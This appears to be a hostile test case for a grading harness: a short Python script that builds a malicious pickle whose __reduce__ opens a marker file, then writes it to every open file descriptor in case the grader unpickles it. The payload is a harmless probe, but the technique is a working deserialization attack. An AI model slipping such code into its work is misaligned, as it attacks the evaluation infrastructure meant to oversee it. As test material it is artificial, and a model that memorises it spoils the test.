"""It sends pickles that would create a marker file, in case anybody on the other side unpickles.

kind: forges
outcome: protocol|failed|exited|timeout|flooded
where: embeddings.py
score: <=65
"""

import os
import pickle
import select


class _Bomb:
    def __reduce__(self):
        return open, ("/tmp/grader-hostile-marker-pickle", "w")


_body = pickle.dumps(_Bomb())
for _fd in range(3, 1025):
    for _order in ("big", "little"):
        try:
            if select.select([], [_fd], [], 0)[1]:
                os.write(_fd, len(_body).to_bytes(4, _order) + _body)
        except (OSError, ValueError):
            pass
